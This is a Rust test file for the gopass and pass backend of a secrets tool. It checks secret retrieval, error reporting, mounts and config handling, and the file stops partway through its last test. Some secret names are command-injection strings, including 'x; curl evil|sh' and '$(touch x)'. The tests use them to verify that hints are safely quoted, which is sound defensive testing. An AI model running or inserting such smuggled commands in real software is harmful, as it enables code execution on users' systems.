//! The gopass backend, with the real programs: gopass 1.15.18 and 1.16.1, Debian's other gopass, and pass.

mod damage;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::fs::symlink;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::support::rights::{bound, with_account, with_system_file};
use crate::support::store::{PASSPHRASE, Store};
use crate::support::terminal::Terminal;
use crate::support::{Home, STRANGER, find, not_run, program, transcript};

/// The real gopass; each test goes through both.
const VERSIONS: [&str; 2] = ["1.15.18", "1.16.1"];

fn each_version(test: impl Fn(&Store)) {
    for version in VERSIONS {
        if let Some(store) = Store::new(version) {
            test(&store);
        }
    }
}

#[test]
fn values_come_as_they_are() {
    each_version(|store| {
        for (name, value) in [
            ("prod/api-key", "s3cret\n".as_bytes()),
            ("prod/multi", b"first\nuser: bob\nlast\n"),
            ("-dash/--", b"dash\n"),
            ("a name/with blanks & $(touch x)", b"odd\n"),
            ("yaml", b"pw\n---\nnumber: 0123\nlist: [ 1,2 ]\n"),
            ("binary", b"\x00\xff\x01\n\x80\n"),
            ("tree", "tree/\n├── a\n└── b\n".as_bytes()),
        ] {
            store.insert(name, value);
            let seen = store.home.run(["get", "--raw", "--", name]);
            assert_eq!(
                (seen.status, seen.stdout.as_slice()),
                (Some(0), value),
                "{name}: {}",
                seen.stderr
            );
        }
        store
            .home
            .run(["get", "prod/multi#user"])
            .is(0, "bob\n", "");
        store.home.run(["get", "-v", "prod/multi#first"]).has(
            1,
            "",
            &["gopass: miss: prod/multi has no field first", "missing"],
        );
    });
}

#[test]
fn a_secret_without_final_newline_gets_one_from_gopass() {
    each_version(|store| {
        store.insert("a", "value");
        store.home.run(["get", "--raw", "a"]).is(0, "value\n", "");
        store.home.run(["get", "a"]).is(0, "value\n", "");
    });
}

#[test]
fn a_hit_costs_one_process() {
    each_version(|store| {
        store.insert("a", "value");
        let real = fs::read_link(store.home.path().join("bin/gopass")).unwrap();
        fs::remove_file(store.home.path().join("bin/gopass")).unwrap();
        store
            .home
            .fake("gopass", &format!("exec '{}' \"$@\"", real.display()));
        store.home.run(["get", "a"]).is(0, "value\n", "");
        assert_eq!(store.home.log("gopass"), ["show -n -- a"]);
    });
}

/// Untold, it would start gpgconf for that. Where gpgconf may name another gpg than the one beside it, it still does.
#[test]
fn gopass_is_told_where_gpg_is() {
    each_version(|store| {
        store.insert("a", "value");
        let bin = store.home.path().join("bin");
        for name in ["gpg", "gpgconf"] {
            fs::remove_file(bin.join(name)).unwrap();
            let real = find(name).unwrap();
            store
                .home
                .fake(name, &format!("exec '{}' \"$@\"", real.display()));
        }
        let asked = || {
            for name in ["gpg", "gpgconf"] {
                let _ = fs::remove_file(store.home.path().join(format!("{name}.log")));
            }
            store.home.run(["get", "a"]).is(0, "value\n", "");
            ["gpg", "gpgconf"].map(|name| !store.home.log(name).is_empty())
        };
        assert_eq!(asked(), [true, false]);
        let real = find("gpg").unwrap();
        let mut command = store.home.mxm_secrets(["get", "a"]);
        transcript(command.env("GOPASS_GPG_BINARY", real)).is(0, "value\n", "");
        assert_eq!(store.home.log("gpg").len(), 1);
        std::os::unix::fs::symlink("gpg", bin.join("gpg2")).unwrap();
        assert_eq!(asked(), [false, true]);
        fs::remove_file(bin.join("gpg2")).unwrap();
        fs::remove_file(bin.join("gpgconf")).unwrap();
        assert_eq!(asked(), [true, false]);
    });
}

#[test]
fn what_is_not_there_is_a_miss() {
    each_version(|store| {
        store.insert("folder/a", "x");
        store.insert("empty", "");
        let missing = |name: &str, why: &str| {
            let env = format!("${} is not set for {name}", name.to_uppercase());
            let seen = store.home.run(["get", "-v", name]);
            seen.has(
                1,
                "",
                &[
                    &format!("gopass: miss: {why} ("),
                    &env,
                    &format!("{name}: missing: not in gopass, env"),
                ],
            );
        };
        missing("nope", "nope is not in the password store");
        missing("folder", "folder is a folder in the password store");
        missing("empty", "empty is empty: gopass show empty");
        store
            .home
            .run(["get", "nope", "--default", "V"])
            .is(3, "V\n", "");
    });
}

#[test]
fn a_secret_may_be_a_folder_too() {
    each_version(|store| {
        store.insert("both", "value\n");
        store.insert("both/inner", "x");
        store.home.run(["get", "both"]).is(0, "value\n", "");
    });
}

#[test]
fn autoclip_and_safecontent_do_not_matter() {
    each_version(|store| {
        store.insert("a", "pw\nuser: bob\n");
        store.gopass(&["config", "show.autoclip", "true"], b"");
        store.gopass(&["config", "show.safecontent", "true"], b"");
        store.home.run(["get", "a"]).is(0, "pw\nuser: bob\n", "");
    });
}

#[test]
fn a_mounted_store_is_read() {
    each_version(|store| {
        let path = store.home.path().join("team");
        store.mount("team/x", "team");
        store.insert("team/x/key", "mounted\n");
        store.home.run(["get", "team/x/key"]).is(0, "mounted\n", "");
        store
            .home
            .run(["get", "team"])
            .has(1, "", &["team: missing"]);
        store
            .home
            .run(["get", "team/x"])
            .has(1, "", &["team/x: missing"]);
        // Where the store is gone nobody knows what it has, whatever gopass says.
        std::fs::rename(&path, path.with_extension("gone")).unwrap();
        store.home.run(["get", "team/x/key", "--default", "d"]).is(
            4,
            "",
            &format!(
                "mxm-secrets: team/x/key: failed: gopass: the store mounted at team/x is not there: {}\n",
                path.display()
            ),
        );
        store
            .home
            .run(["get", "other/key"])
            .has(1, "", &["missing"]);
    });
}

#[test]
fn a_corrupt_file_or_a_wrong_key_is_a_failure() {
    each_version(|store| {
        fs::write(store.root().join("junk.gpg"), "junk").unwrap();
        fs::write(store.root().join("hollow.gpg"), "").unwrap();
        for name in ["junk", "hollow"] {
            store.home.run(["get", name, "--default", "V"]).is(
                4,
                "",
                &format!(
                    "mxm-secrets: {name}: failed: gopass: {name} cannot be decrypted: locked or wrong key, or a damaged file\n\
                     mxm-secrets: hint: to see its error output, run: gopass show -- {name}\n"
                ),
            );
        }
        store.insert("a", "value");
        fs::remove_dir_all(store.home.path().join("gnupg/private-keys-v1.d")).unwrap();
        store.end_agent();
        store.home.run(["get", "a"]).has(
            4,
            "",
            &["a cannot be decrypted: its key is locked, or not here"],
        );
    });
}

#[test]
fn a_locked_key_fails_at_once_when_unattended() {
    for version in VERSIONS {
        let Some(store) = Store::locked(version) else {
            return;
        };
        store.insert("a", "value");
        let failed = "mxm-secrets: a: failed: gopass: a cannot be decrypted: its key is locked, or not here\n\
             mxm-secrets: hint: unlock it in a terminal: gopass show -- a\n";
        let started = Instant::now();
        store.home.run(["get", "a"]).is(4, "", failed);
        store
            .home
            .run(["get", "a", "--default", "V"])
            .is(4, "", failed);
        store
            .home
            .run(["get", "a", "--default", "V", "--on-error", "continue", "-q"])
            .is(3, "V\n", "");
        // With a terminal, --no-input says that no person is there.
        let terminal = Terminal::start(store.home.mxm_secrets(["get", "a", "--no-input"]));
        let (status, screen) = terminal.ends();
        assert_eq!((status.code(), screen.as_str()), (Some(4), failed));
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "it has waited for someone"
        );
        // What the agent knows is used.
        store.unlock();
        store.home.run(["get", "a"]).is(0, "value\n", "");
    }
}

#[test]
fn a_person_at_a_terminal_is_asked_for_the_passphrase() {
    for version in VERSIONS {
        let Some(store) = Store::locked(version) else {
            return;
        };
        let Some(pinentry) = program("pinentry-curses") else {
            return;
        };
        store.insert("a", "value");
        let configuration = format!("pinentry-program {}\n", pinentry.display());
        store.home.write("gnupg/gpg-agent.conf", configuration);
        store.end_agent();
        let mut command = store.home.mxm_secrets(["get", "a"]);
        command.env("TERM", "xterm");
        let mut terminal = Terminal::start(command);
        terminal.shows("Passphrase");
        terminal.types(&format!("{PASSPHRASE}\r"));
        let (status, screen) = terminal.ends();
        assert_eq!(status.code(), Some(0), "{screen}");
        assert!(screen.ends_with("value\n"), "{screen}");
    }
}

#[test]
fn a_store_that_may_not_be_read_is_a_failure() {
    each_version(|store| {
        store.insert("prod/a", "value");
        store.end_agent();
        let run = |name: &str| {
            let mut command = store.home.command(store.home.path().join("mxm-secrets"));
            transcript(command.args(["get", name]).uid(STRANGER).gid(STRANGER))
        };
        if !store.home.give_to_stranger() {
            return not_run("only root can become somebody else");
        }
        run("prod/a").is(0, "value\n", "");
        fs::set_permissions(store.root().join("prod"), fs::Permissions::from_mode(0o000)).unwrap();
        run("prod/a").has(
            4,
            "",
            &["prod/a: failed: gopass: cannot read", "ermission denied"],
        );
        fs::set_permissions(store.root(), fs::Permissions::from_mode(0o000)).unwrap();
        run("prod/a").has(4, "", &["prod/a: failed: gopass: cannot read"]);
        fs::set_permissions(store.root(), fs::Permissions::from_mode(0o700)).unwrap();
    });
}

#[test]
fn without_a_store_the_next_backend_is_asked() {
    for version in VERSIONS {
        let Some(gopass) = program(&format!("gopass-{version}")) else {
            return;
        };
        let mut home = Home::new();
        home.install("gopass", &gopass);
        home.set("A", "from the environment");
        home.run(["get", "a"]).is(0, "from the environment\n", "");
        home.run(["get", "a", "-v"]).has(
            0,
            "from the environment\n",
            &["gopass: unavailable: the password store is not init"],
        );
        home.run(["get", "a", "--backend", "gopass"]).has(
            4,
            "",
            &[
                "failed: gopass: the password store is not initialized",
                "hint: set it up: gopass init",
            ],
        );
        // gopass makes a store wherever it is started: it was not.
        let left = fs::read_dir(home.path()).unwrap();
        let left: Vec<_> = left.map(|entry| entry.unwrap().file_name()).collect();
        assert_eq!(left, ["bin"], "{version}");
        // What it makes when a person starts it is no store.
        let mut by_hand = home.command(&gopass);
        transcript(by_hand.arg("ls"));
        home.run(["get", "a"]).is(0, "from the environment\n", "");
    }
}

/// An empty directory may be the place of a volume that is not mounted.
#[test]
fn an_empty_store_is_failed() {
    for name in ["gopass-1.16.1", "gopass-1.15.18", "gopass-debian", "pass"] {
        let Some(gopass) = program(name) else { return };
        let mut home = Home::new();
        home.install("gopass", &gopass);
        home.set("A", "from the environment");
        home.link(&["env", "bash", "sed", "getopt", "uname", "cat", "which"]);
        let check = |place: &str| {
            fs::create_dir_all(home.path().join(place)).unwrap();
            let said = format!("{place} has no .gpg-id");
            home.run(["get", "a", "--default", "d"])
                .has(4, "", &["not initialized", &said]);
            let listed = home.run(["list-backends", "--json"]).stdout;
            let listed = String::from_utf8(listed).unwrap();
            let failed = r#""backend":"gopass","in_chain":true,"status":"failed""#;
            assert!(listed.contains(failed), "{name}: {listed}");
            fs::remove_dir(home.path().join(place)).unwrap();
        };
        check(".password-store");
        if name.starts_with("gopass-1") {
            check(".local/share/gopass/stores/root");
        }
    }
}

/// Where gopass finds no store, another program of its name may, and so may a script or a configuration of before.
#[test]
fn a_store_that_gopass_would_not_find_is_found() {
    let Some(mut store) = debian_gopass().and_then(other) else {
        return;
    };
    store.home.set("PASSWORD_STORE_DIR", "");
    fs::rename(store.root(), store.home.path().join(".password-store")).unwrap();
    let elsewhere = store.home.path().join("elsewhere");
    store.home.set("GOPASS_HOMEDIR", elsewhere);
    store
        .home
        .run(["get", "prod/api-key"])
        .is(0, "s3cret\n", "");
    let home = Home::new();
    home.program(
        "gopass",
        "#!/bin/sh\necho of a store that the script names\n",
    );
    home.run(["get", "a"])
        .is(0, "of a store that the script names\n", "");
}

#[test]
fn a_program_of_the_section_that_is_gone_is_failed() {
    let mut home = Home::new();
    home.set("A", "from the environment");
    home.write(
        ".config/mxm-secrets/config.yaml",
        "mxm_secrets: {gopass: {command: /no/where/gopass}}\n",
    );
    home.run(["get", "a", "--default", "d"]).has(
        4,
        "",
        &[
            "failed: gopass: ",
            "/no/where/gopass does not exist",
            "hint: ",
        ],
    );
    let listed = String::from_utf8(home.run(["list-backends", "--json"]).stdout).unwrap();
    assert!(
        listed.contains(r#""in_chain":true,"status":"failed""#),
        "{listed}"
    );
}

#[test]
fn without_gopass_the_next_backend_is_asked() {
    let mut home = Home::new();
    home.set("A", "from the environment");
    home.run(["get", "a", "-v"]).has(
        0,
        "from the environment\n",
        &["gopass: unavailable: gopass is not on PATH"],
    );
    home.run(["get", "a", "--backend", "gopass"]).is(
        4,
        "",
        "mxm-secrets: a: failed: gopass: gopass is not on PATH\n",
    );
    home.run(["get", "b"]).is(
        1,
        "",
        "mxm-secrets: b: missing: not in env ($B) (unavailable: gopass)\n",
    );
}

/// Debian's gopass, or pass, under the name gopass, on a store that the real one has made.
fn other(program: PathBuf) -> Option<Store> {
    let store = Store::new(VERSIONS[0])?;
    store.insert("prod/api-key", "s3cret\n");
    store.encrypt("exact", b"no newline, \xff\x00 and all");
    store.encrypt("looks", "prod\n├── a\n└── b\n".as_bytes());
    store.encrypt("hollow", b"");
    fs::write(store.root().join("junk.gpg"), "junk").unwrap();
    Some(store.read_by(&program, "gopass"))
}

#[test]
fn debians_other_gopass_works() {
    let Some(program) = debian_gopass() else {
        return;
    };
    let Some(store) = other(program) else { return };
    let home = &store.home;
    home.run(["get", "prod/api-key"]).is(0, "s3cret\n", "");
    home.run(["get", "looks"]).is(0, "prod\n├── a\n└── b\n", "");
    // It would take the blanks off.
    store.encrypt("blanks", b"  \tv \n\n");
    home.run(["get", "--raw", "blanks"]).is(0, "  \tv \n\n", "");
    home.run(["get", "--raw", "exact"])
        .is(0, b"no newline, \xff\x00 and all", "");
    home.run(["get", "nope"]).has(1, "", &["nope: missing"]);
    home.run(["get", "prod"]).has(1, "", &["prod: missing"]);
    home.run(["get", "junk"])
        .has(4, "", &["failed: gopass: junk cannot be decrypted"]);
    home.run(["get", "hollow"]).has(1, "", &["hollow: missing"]);
    let mut elsewhere = home.mxm_secrets(["get", "a", "-v"]);
    elsewhere.env("PASSWORD_STORE_DIR", "/nonexistent");
    let gone = "failed: gopass: the password store is not there: /nonexistent";
    transcript(&mut elsewhere).has(4, "", &[gone]);
    let mut nowhere = home.mxm_secrets(["get", "a", "-v"]);
    nowhere.env_remove("PASSWORD_STORE_DIR");
    transcript(&mut nowhere).has(
        1,
        "",
        &["gopass: unavailable: the password store is not initialized"],
    );
}

#[test]
fn pass_works() {
    let Some(program) = program("pass") else {
        return;
    };
    let Some(store) = other(program) else {
        return;
    };
    let home = &store.home;
    home.run(["get", "prod/api-key"]).is(0, "s3cret\n", "");
    home.run(["get", "--raw", "exact"])
        .is(0, b"no newline, \xff\x00 and all", "");
    home.run(["get", "looks"]).is(0, "prod\n├── a\n└── b\n", "");
    home.run(["get", "nope"]).has(1, "", &["nope: missing"]);
    home.run(["get", "prod", "-v"])
        .has(1, "", &["gopass: miss: prod is a folder"]);
    home.run(["get", "junk"])
        .has(4, "", &["failed: gopass: junk cannot be decrypted"]);
    home.run(["get", "hollow"]).has(1, "", &["hollow: missing"]);
    let mut elsewhere = home.mxm_secrets(["get", "a", "-v"]);
    elsewhere.env("PASSWORD_STORE_DIR", "/nonexistent");
    let gone = "failed: gopass: the password store is not there: /nonexistent";
    transcript(&mut elsewhere).has(4, "", &[gone]);
    let mut nowhere = home.mxm_secrets(["get", "a", "-v"]);
    nowhere.env_remove("PASSWORD_STORE_DIR");
    transcript(&mut nowhere).has(
        1,
        "",
        &["gopass: unavailable: the password store is not initialized"],
    );
}

/// A home with a secret, whose gopass is of that name.
fn called(name: &str, version: &str) -> Option<Store> {
    let store = Store::new(version)?;
    store.encrypt("db", b"topsecret\nuser: bob\n");
    store.gopass(&["config", "show.safecontent", "true"], b"");
    let gopass = fs::read_link(store.home.path().join("bin/gopass")).unwrap();
    let store = store.read_by(&gopass, name);
    Some(store)
}

#[test]
fn a_program_is_what_it_is_whatever_its_name() {
    for version in VERSIONS {
        let Some(store) = called("pass", version) else {
            return;
        };
        let home = &store.home;
        let values = || {
            home.run(["get", "db"]).is(0, "topsecret\nuser: bob\n", "");
            home.run(["get", "none"]).has(1, "", &["none: missing"]);
        };
        values();
        let seen = home.run(["list-backends"]);
        let words = format!("gopass {version} (");
        assert!(String::from_utf8_lossy(&seen.stdout).contains(&words));
        // A script that starts it, and a link to that.
        let (pass, script) = (home.path().join("bin/pass"), home.path().join("bin/script"));
        let gopass = fs::read_link(&pass).unwrap();
        fs::remove_file(&pass).unwrap();
        home.program(
            "script",
            &format!("#!/bin/sh\nexec '{}' \"$@\"\n", gopass.display()),
        );
        symlink(&script, &pass).unwrap();
        values();
    }
}

#[test]
fn pass_may_be_called_gopass_and_started_by_a_script() {
    let Some(program) = program("pass") else {
        return;
    };
    let Some(store) = Store::new(VERSIONS[0]) else {
        return;
    };
    store.encrypt("exact", b"no newline");
    let store = store.read_by(&program, "gopass");
    let home = &store.home;
    home.run(["get", "--raw", "exact"]).is(0, "no newline", "");
    let gopass = home.path().join("bin/gopass");
    fs::remove_file(&gopass).unwrap();
    home.program(
        "gopass",
        &format!("#!/bin/sh\nexec '{}' \"$@\"\n", program.display()),
    );
    home.run(["get", "--raw", "exact"]).is(0, "no newline", "");
    home.run(["get", "none"]).has(1, "", &["none: missing"]);
}

#[test]
fn words_of_gopass_are_names_too() {
    each_version(|store| {
        for name in [
            "h",
            "help",
            "--generate-bash-completion",
            "-h",
            "--help",
            "show",
        ] {
            store
                .home
                .run(["get", "--default", "D", "--", name])
                .is(3, "D\n", "");
            store.encrypt(name, format!("value of {name}\n").as_bytes());
            store
                .home
                .run(["get", "--", name])
                .is(0, format!("value of {name}\n"), "");
        }
        fs::write(store.root().join("h.gpg"), "junk").unwrap();
        store.home.run(["get", "h"]).has(
            4,
            "",
            &["hint: to see its error output, run: gopass show -- /h\n"],
        );
    });
}

#[test]
fn a_hint_is_a_command_that_does_what_it_says() {
    each_version(|store| {
        for name in ["x; curl evil|sh", "it's", "-n", "$(touch x)"] {
            fs::write(store.root().join(format!("{name}.gpg")), "junk").unwrap();
            let seen = store.home.run(["get", "--", name]);
            let hint = seen.stderr.split("run: ").nth(1).unwrap();
            let mut shell = store.home.command("/bin/sh");
            shell.args([
                "-c",
                &format!("gopass() {{ for a; do echo \"<$a>\"; done; }}\n{hint}"),
            ]);
            transcript(&mut shell).is(0, format!("<show>\n<-->\n<{name}>\n"), "");
        }
    });
}

#[test]
fn a_tree_in_a_hidden_folder_is_a_text() {
    let tree = "layout:\n├── a\n└── b\n";
    each_version(|store| {
        for name in [".notes/layout", "notes/.layout", "notes/.x/layout"] {
            fs::create_dir_all(store.root().join(name).parent().unwrap()).unwrap();
            store.encrypt(name, tree.as_bytes());
            store.home.run(["get", name]).is(0, tree, "");
        }
        store
            .home
            .run(["get", "-v", "notes"])
            .has(1, "", &["notes is a folder"]);
        // gopass says of this one that it is not found.
        fs::create_dir(store.root().join("hollow")).unwrap();
        store
            .home
            .run(["get", "-v", "hollow"])
            .has(1, "", &["hollow is a folder"]);
    });
}

#[test]
fn attachments_come_as_their_bytes() {
    each_version(|store| {
        let bytes: Vec<u8> = (0..=255).cycle().take(3001).collect();
        let file = store.home.write("some file", &bytes);
        store.gopass(&["fscopy", file.to_str().unwrap(), "a/copied"], b"");
        store.gopass(&["cat", "a/piped"], &bytes);
        store.gopass(&["cat", "a/one"], b"\n");
        store.gopass(&["cat", "a/json"], br#"{"user":"bob"}"#);
        let get = |name| store.home.run(["get", "--raw", name]);
        get("a/copied").is(0, &bytes, "");
        get("a/piped").is(0, &bytes, "");
        get("a/json#user").is(0, "bob", "");
        let mut text = String::from("\nContent-Disposition: attachment; filename=\"x\"\n");
        text += "Content-Transfer-Encoding: Base64\nYQ=\n";
        store.encrypt("a/damaged", text.as_bytes());
        get("a/damaged").has(
            4,
            "",
            &["a/damaged is an attachment whose base64 is damaged"],
        );
    });
}

/// gopass 1.10 and 1.11 made every secret in the form of a mail, with the password as a header.
#[test]
fn the_password_of_an_old_secret_is_a_header() {
    each_version(|store| {
        let old = |name: &str, text: &str| {
            store.encrypt(name, format!("GOPASS-SECRET-1.0\n{text}").as_bytes());
        };
        old("old", "Password: p\nUser: bob\n\nbody\nmore: z\n");
        old("none", "User: u\n\nbody\n");
        old(
            "bytes",
            "Content-Disposition: attachment; filename=\"f\"\nContent-Transfer-Encoding: Base64\n\nAAEC\n",
        );
        store.encrypt("new", b"Password: p\nUser: bob\n");
        let get = |name| store.home.run(["get", name]);
        for (name, value) in [
            ("old#", "p\n"),
            ("old#Password", "p\n"),
            ("old#User", "bob\n"),
            ("old#more", "z\n"),
            ("none#User", "u\n"),
            // As `gopass show -n` has it.
            ("old", "Password: p\nUser: bob\n\nbody\nmore: z\n"),
            // The same without the form: its password is the line.
            ("new#", "Password: p\n"),
            ("new#User", "bob\n"),
        ] {
            get(name).is(0, value, "");
        }
        store
            .home
            .run(["get", "--raw", "bytes"])
            .is(0, b"\0\x01\x02", "");
        for name in ["none#", "none#Password", "new#Password", "old#user"] {
            get(name).has(1, "", &["missing"]);
        }
        // Whether it is in that form nobody can say where gopass cannot read it.
        old("bad", "Password: p\nno header\n");
        get("bad#").has(
            4,
            "",
            &["failed: gopass: gopass cannot say which line is its password"],
        );
    });
}

/// In a mount namespace with an /etc of its own.
#[test]
fn stores_that_the_system_names_are_read() {
    each_version(|store| {
        store.insert("key", "value\n");
        let (root, gone) = (store.root(), store.home.path().join("gone"));
        let text = |far: &Path| {
            format!(
                "[mounts]\n\tpath = {}\n[mounts \"far\"]\n\tpath = {}\n",
                root.display(),
                far.display()
            )
        };
        // What names the store is this file alone.
        fs::remove_dir_all(store.home.path().join(".config/gopass")).unwrap();
        let run = |text: String, words: &[&str]| {
            let command = store.home.mxm_secrets(words.iter().copied());
            let mut command = with_system_file(&store.home, "gopass/config", text, &command)?;
            command.env_remove("PASSWORD_STORE_DIR");
            Some(transcript(&mut command))
        };
        let Some(seen) = run(text(&gone), &["get", "key"]) else {
            return;
        };
        seen.is(0, "value\n", "");
        let lost = &["get", "far/x", "--default", "D"];
        let words = "failed: gopass: the store mounted at far is not";
        run(text(&gone), lost).unwrap().has(4, "", &[words]);
        // A link to nothing, and a file that cannot be read as text of any kind.
        symlink("/no/where", store.home.path().join("dead")).unwrap();
        let dead = store.home.path().join("dead");
        run(text(&dead), lost)
            .unwrap()
            .has(4, "", &["is a link to nothing"]);
        let large = " ".repeat(2 << 20);
        run(large, lost).unwrap().has(
            4,
            "",
            &["the configuration of gopass, /etc/gopass/config, is larger than"],
        );
        let mut without = store.home.mxm_secrets(["get", "far/x"]);
        without.env("GOPASS_CONFIG_NOSYSTEM", "1");
        let mut without =
            with_system_file(&store.home, "gopass/config", text(&gone), &without).unwrap();
        assert_eq!(transcript(&mut without).status, Some(1));
    });
}

#[test]
fn stores_are_read_where_gopass_reads_them() {
    each_version(|store| {
        let home = &store.home;
        let gone = |command: &mut std::process::Command, place: &str| {
            let words = format!("gopass: the store mounted at far is not there: {place}");
            transcript(command.args(["get", "far/x", "--default", "D"])).has(4, "", &[&words]);
        };
        store.insert("far/x", "of the root store\n");
        home.run(["get", "far/x"]).is(0, "of the root store\n", "");
        let mut named = home.mxm_secrets([""; 0]);
        named.env("GOPASS_CONFIG_COUNT", "1");
        named
            .env("GOPASS_CONFIG_KEY_0", "mounts.far.path")
            .env("GOPASS_CONFIG_VALUE_0", "/proc/no/far");
        gone(&mut named, "/proc/no/far");
        // Void, since one is missing, for gopass too.
        let mut void = home.mxm_secrets(["get", "far/x"]);
        void.env("GOPASS_CONFIG_COUNT", "2");
        void.env("GOPASS_CONFIG_KEY_0", "mounts.far.path")
            .env("GOPASS_CONFIG_VALUE_0", "/proc/no/far");
        transcript(&mut void).is(0, "of the root store\n", "");
        let configuration = home.path().join(".config/gopass/config");
        let usual = fs::read_to_string(&configuration).unwrap();
        for spelling in [
            "[mounts \"far\"]\n path = /proc/no/far # gone",
            "[Mounts far]\nPATH=\"/proc/no/far\"",
            "[mounts \"far\"]\n; path = /here\npath = /proc/no/far\npath = /here",
            "[include]\npath = other",
        ] {
            home.write(
                ".config/gopass/other",
                "[mounts \"far\"]\npath = /proc/no/far\n",
            );
            fs::write(&configuration, format!("{usual}{spelling}\n")).unwrap();
            gone(&mut home.mxm_secrets([""; 0]), "/proc/no/far");
        }
        fs::write(
            &configuration,
            format!("{usual}[mounts \"far\"]\npath = ~/far\n"),
        )
        .unwrap();
        gone(
            &mut home.mxm_secrets([""; 0]),
            &home.path().join("far").display().to_string(),
        );
        // In the root store itself.
        fs::write(&configuration, usual).unwrap();
        fs::write(
            store.root().join("config"),
            "[mounts \"far\"]\npath = /proc/no/far\n",
        )
        .unwrap();
        gone(&mut home.mxm_secrets([""; 0]), "/proc/no/far");
    });
}

#[test]
fn a_configuration_of_any_size_is_refused_in_time() {
    each_version(|store| {
        store.insert("a", "value\n");
        let path = store.home.path().join(".config/gopass/config");
        let usual = fs::read(&path).unwrap();
        let refused = |words: &str| {
            let started = Instant::now();
            store
                .home
                .run(["get", "a", "--default", "D"])
                .has(4, "", &[words]);
            assert!(started.elapsed() < Duration::from_secs(10));
        };
        fs::File::create(&path).unwrap().set_len(800 << 20).unwrap();
        refused("is larger than 1 MiB");
        fs::remove_file(&path).unwrap();
        symlink("/dev/zero", &path).unwrap();
        refused("is larger than 1 MiB");
        fs::remove_file(&path).unwrap();
        fs::write(&path, [&usual[..], b"[include]\npath = config\n"].concat()).unwrap();
        store.home.run(["get", "a"]).is(0, "value\n", "");
    });
}

#[test]
fn nothing_reaches_the_clipboard_whatever_the_environment_counts() {
    each_version(|store| {
        store.insert("a", "value\n");
        store.gopass(&["config", "show.autoclip", "true"], b"");
        let copies = |name: &str| {
            store
                .home
                .program(name, "#!/bin/sh\n/bin/cat >>\"$HOME/copied\"\n")
        };
        ["xsel", "xclip", "wl-copy", "copy"]
            .into_iter()
            .for_each(copies);
        for (count, key) in [
            ("4294967295", ""),
            ("-1", ""),
            ("1", "show.autoclip"),
            ("x", ""),
            ("1", "core.x"),
        ] {
            let mut command = store.home.mxm_secrets(["get", "a"]);
            command
                .env("GOPASS_CONFIG_COUNT", count)
                .env("GOPASS_CLIPBOARD_COPY_CMD", "copy");
            command
                .env("DISPLAY", ":0")
                .env("MXM_SECRETS_NO_INPUT", "0");
            if !key.is_empty() {
                command
                    .env("GOPASS_CONFIG_KEY_0", key)
                    .env("GOPASS_CONFIG_VALUE_0", "true");
            }
            transcript(&mut command).is(0, "value\n", "");
            assert!(!store.home.path().join("copied").exists(), "{count} {key}");
        }
    });
}

#[test]
fn a_store_without_its_program_is_failed() {
    each_version(|store| {
        store.insert("a", "value\n");
        fs::remove_file(store.home.path().join("bin/gopass")).unwrap();
        let bin = store.home.path().join("bin");
        let failed = format!(
            "mxm-secrets: a: failed: gopass: there is a password store, but gopass is not on PATH\n\
             mxm-secrets: hint: install it, or add its directory to PATH, which is {}\n",
            bin.display()
        );
        for arguments in [&["get", "a"][..], &["get", "a", "--default", "D"]] {
            let mut command = store.home.mxm_secrets(arguments);
            let seen = transcript(command.env("A", "of another store"));
            assert_eq!(seen.status, Some(4), "{}", seen.stderr);
            assert!(
                seen.stderr
                    .ends_with(failed.split("gopass: ").nth(1).unwrap())
            );
        }
        let seen = store.home.run(["list-backends"]);
        let text = String::from_utf8_lossy(&seen.stdout).into_owned();
        assert!(
            text.contains("failed") && text.contains("there is a password store"),
            "{text}"
        );
    });
}

#[test]
fn list_backends_starts_no_gopass_outside_the_chain_and_never_writes() {
    each_version(|store| {
        let real = fs::read_link(store.home.path().join("bin/gopass")).unwrap();
        let home = Home::new();
        home.fake("gopass", &format!("exec '{}' \"$@\"", real.display()));
        fs::remove_dir_all(home.path().join(".password-store")).unwrap();
        let before = files(home.path());
        home.run(["list-backends", "--backend", "env"]).has(
            0,
            home.run(["list-backends", "--backend", "env"]).stdout,
            &[],
        );
        assert_eq!(home.log("gopass"), [""; 0]);
        home.run(["list-backends"]);
        assert_eq!(home.log("gopass"), ["--version"]);
        fs::remove_file(home.path().join("gopass.log")).unwrap();
        assert_eq!(files(home.path()), before);
    });
}

/// A script may read any store: what it does not find is not known to be missing, unless it only starts the program.
#[test]
fn what_a_script_does_not_find_is_not_missing() {
    each_version(|store| {
        store.insert("a", "of the store beside\n");
        let bin = store.home.path().join("bin");
        let gopass = fs::read_link(bin.join("gopass")).unwrap();
        let elsewhere = store.home.path().join("elsewhere");
        let script = |lines: &str| {
            let _ = fs::remove_file(bin.join("gopass"));
            let text = format!("#!/bin/sh\n{lines} '{}' \"$@\"\n", gopass.display());
            store.home.program("gopass", &text);
        };
        let lost = |name: &str| {
            let seen = store.home.run(["get", "--default", "D", name]);
            seen.has(4, "", &["failed: gopass: "]);
        };
        script("exec");
        store
            .home
            .run(["get", "a"])
            .is(0, "of the store beside\n", "");
        store
            .home
            .run(["get", "none"])
            .has(1, "", &["none: missing"]);
        for lines in [
            format!("export PASSWORD_STORE_DIR='{}'\nexec", elsewhere.display()),
            format!("GOPASS_HOMEDIR='{}' exec", elsewhere.display()),
            format!(
                "exec /usr/bin/env HOME='{0}' XDG_CONFIG_HOME='{0}/c'",
                elsewhere.display()
            ),
            "x=PASSWORD_STORE_DIR; export $x=$HOME/elsewhere\nexec".to_owned(),
        ] {
            fs::create_dir_all(&elsewhere).unwrap();
            fs::copy(store.root().join(".gpg-id"), elsewhere.join(".gpg-id")).unwrap();
            fs::copy(store.root().join("a.gpg"), elsewhere.join("b.gpg")).unwrap();
            for link in ["dead.gpg", "team"] {
                symlink("/no/where", elsewhere.join(link)).unwrap();
            }
            for home in ["", ".local/share/gopass/stores"] {
                fs::create_dir_all(elsewhere.join(home)).unwrap();
            }
            script(&lines);
            for home in [".local/share/gopass/stores/root", ".password-store"] {
                let _ = symlink(&elsewhere, elsewhere.join(home));
            }
            store
                .home
                .run(["get", "b"])
                .is(0, "of the store beside\n", "");
            for name in ["dead", "team/x", "a", "none"] {
                lost(name);
            }
            store.home.run(["get", "none"]).has(
                4,
                "",
                &[
                    "none is not known to be missing: gopass is neither gopass nor pass itself, and may read any store",
                    "hint: set gopass.command to the program that it starts",
                ],
            );
            let listed = store.home.run(["list-backends"]);
            let table = String::from_utf8(listed.stdout).unwrap();
            let table = table.split_whitespace().collect::<Vec<_>>().join(" ");
